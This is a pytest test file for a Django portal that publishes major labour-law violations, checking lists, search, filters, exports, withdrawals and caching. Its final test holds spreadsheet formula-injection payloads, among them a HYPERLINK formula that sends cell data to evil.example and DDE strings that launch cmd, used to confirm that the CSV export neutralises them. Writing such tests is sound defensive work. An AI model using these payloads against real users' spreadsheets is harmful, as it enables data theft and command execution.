"""The portal's pages of major violations: the list by quarter, 2-character and credit-code search, the quarter and
category filters, the detail page, CSV, JSON, Atom, withdrawn entries, and how long entries stay online."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.cache import caches
from django.test import Client

from fazhi.major_violations.actions import publish_batch, withdraw_publication
from fazhi.major_violations.snapshots import PublishedMajorViolation

from .conftest import on_day, select

pytestmark = pytest.mark.django_db
HUAQIANG = "深圳市福田区华强电子有限公司"
HONGTU = "深圳市福田区宏图建筑劳务有限公司"


@pytest.fixture
def published(decided, wages_case, lead, director):
    """华强 (category other) published in 2026 Q1; 宏图 (wages) selected after it, published in 2026 Q2."""
    first = select(decided, lead, "other", "未建立用工管理台账。", "罚款二万元。")
    publish_batch(actor=director, batch=first.batch)
    second = select(wages_case, lead, "wages", "拖欠12万元工资。", "责令支付。")
    with on_day(dt.date(2026, 4, 2)):
        publish_batch(actor=director, batch=second.batch)
    return first, second


def page(path: str, **params: str) -> str:
    response = Client().get(path, params)
    assert response.status_code == 200
    return response.content.decode("utf-8-sig")


def test_the_list_shows_each_quarter_newest_first_with_the_prescribed_fields(published):
    body = page("/major-violations/")
    assert body.index("2026年第二季度") < body.index("2026年第一季度")
    assert body.index(HONGTU) < body.index(HUAQIANG)
    assert "周大福" in body
    assert "福田区人力资源局" in body
    assert "其他重大劳动保障违法行为" in body


@pytest.mark.parametrize(("query", "found"), [("华强", True), ("宏图", True), ("华强电子", True), ("ＨＵＡ", False)])
def test_two_characters_of_the_name_find_an_entry(published, query, found):
    body = page("/major-violations/", q=query)
    if found:
        assert (HUAQIANG in body) or (HONGTU in body)
        assert not (HUAQIANG in body and HONGTU in body)
    else:
        assert "没有找到" in body


def test_the_credit_code_or_its_start_finds_an_entry(published, decided):
    code = decided.employer.credit_code
    assert HUAQIANG in page("/major-violations/", q=code)
    body = page("/major-violations/", q=code[:8].lower())
    assert HUAQIANG in body


def test_the_quarter_and_category_filters_narrow_the_list(published):
    first = page("/major-violations/", quarter="2026Q1")
    assert HUAQIANG in first
    assert HONGTU not in first
    wages = page("/major-violations/", category="wages")
    assert HONGTU in wages
    assert HUAQIANG not in wages
    assert "没有找到" in page("/major-violations/", quarter="2026Q1", category="wages")
    # a malformed filter is ignored, never an error
    assert HUAQIANG in page("/major-violations/", quarter="2026Q9", category="<script>")


def test_the_detail_page_shows_the_six_fields_and_the_category(published):
    item = PublishedMajorViolation.objects.get(employer_name=HUAQIANG)
    body = page(f"/major-violations/{item.pk}/")
    for label in ("违法主体全称", "统一社会信用代码", "地址", "法定代表人或负责人姓名", "主要违法事实", "相关处理情况"):
        assert label in body
    assert "深圳市福田区华强北路1号" in body
    assert "未建立用工管理台账" in body
    assert "重大劳动保障违法行为社会公布办法 第五条第（七）项" in body
    assert Client().get("/major-violations/999999/").status_code == 404
    assert Client().get(f"/major-violations/{2**64}/").status_code == 404


def test_the_exports_and_the_feed_carry_the_entries_and_honour_the_filters(published):
    client = Client()
    rows = list(csv.reader(io.StringIO(client.get("/major-violations.csv").content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["公布季度", "公布机关", "违法行为类别", "违法主体全称"]
    assert {row[3] for row in rows[1:]} == {HUAQIANG, HONGTU}
    data = json.loads(client.get("/major-violations.json", {"quarter": "2026Q2"}).content)
    assert [item["employer_name"] for item in data["major_violations"]] == [HONGTU]
    assert data["major_violations"][0]["quarter"] == "2026Q2"
    assert data["fields"]["legal_representative"] == "法定代表人或负责人姓名"
    feed = client.get("/major-violations/feed.atom")
    assert feed["Content-Type"].startswith("application/atom+xml")
    text = feed.content.decode()
    assert HUAQIANG in text
    assert HONGTU in text


def test_a_withdrawn_entry_is_marked_and_keeps_only_its_name_and_explanation(published, director):
    first, _ = published
    withdraw_publication(actor=director, selection=first, reason="该单位名称登记有误，予以更正。")
    item = PublishedMajorViolation.objects.get(selection_id=first.pk)
    assert "已撤回" in page("/major-violations/")
    body = page(f"/major-violations/{item.pk}/")
    assert "本条公布已于 2026-03-09 撤回" in body
    assert "予以更正" in body
    assert "未建立用工管理台账" not in body
    assert "周大福" not in body
    data = json.loads(Client().get("/major-violations.json", {"quarter": "2026Q1"}).content)
    [row] = data["major_violations"]
    assert row["withdrawn_on"] == "2026-03-09"
    assert row["facts"] == ""
    assert row["legal_representative"] == ""
    feed = Client().get("/major-violations/feed.atom").content.decode()
    assert "【已撤回】" in feed
    assert "未建立用工管理台账" not in feed


def test_entries_stay_online_unless_a_number_of_years_is_configured(published, settings):
    PublishedMajorViolation.objects.filter(employer_name=HUAQIANG).update(published_on=dt.date(2022, 3, 1))
    assert HUAQIANG in page("/major-violations/")  # default 0: no automatic removal
    settings.FAZHI_MAJOR_VIOLATION_ONLINE_YEARS = 3
    caches["portal"].clear()  # a changed setting takes effect at a restart, which empties the per-process cache
    assert HUAQIANG not in page("/major-violations/")
    assert HONGTU in page("/major-violations/")
    item = PublishedMajorViolation.objects.get(employer_name=HUAQIANG)
    assert Client().get(f"/major-violations/{item.pk}/").status_code == 404
    assert HUAQIANG not in page("/major-violations.csv")


def test_the_portal_links_to_the_list_from_its_navigation_and_home_page(published):
    home = page("/")
    assert home.count('href="/major-violations/"') >= 2  # navigation and the services tile


def test_an_empty_list_says_so():
    assert "暂无公布的重大劳动保障违法行为" in page("/major-violations/")


def test_the_cached_pages_show_a_publication_and_a_withdrawal_at_the_next_request(decided, wages_case, lead, director):
    first = select(decided, lead, "other", "未建立用工管理台账。", "罚款二万元。")
    assert HUAQIANG not in page("/major-violations/")  # cached now, before the publication
    json_before = Client().get("/major-violations.json").content  # cached now
    publish_batch(actor=director, batch=first.batch)
    assert HUAQIANG in page("/major-violations/")
    assert Client().get("/major-violations.json").content != json_before
    assert "已撤回" not in page("/major-violations/")
    withdraw_publication(actor=director, selection=first, reason="该单位名称登记有误，予以更正。")
    assert "已撤回" in page("/major-violations/")
    assert "【已撤回】" in Client().get("/major-violations/feed.atom").content.decode()


def test_formulas_typed_into_a_publication_reach_the_public_csv_as_text(decided, lead, director):
    """Security review M3: the reviewer's three payloads in the facts and the handling of a published entry."""
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看处理详情")'
    dde = "=cmd|' /C calc'!A0 拖欠工资"
    at_sum = "@SUM(1+1)*cmd|' /C calc'!A0"
    first = select(decided, lead, "other", dde, hyperlink)
    publish_batch(actor=director, batch=first.batch)
    rows = list(csv.reader(io.StringIO(page("/major-violations.csv"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["主要违法事实"] == "'" + dde
    assert cells["相关处理情况"] == "'" + hyperlink
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    # the page itself shows the text as typed
    item = PublishedMajorViolation.objects.get()
    assert "=cmd|" in page(f"/major-violations/{item.pk}/")
    assert at_sum  # the third payload is checked cell by cell in fazhi/tests/test_cells.py
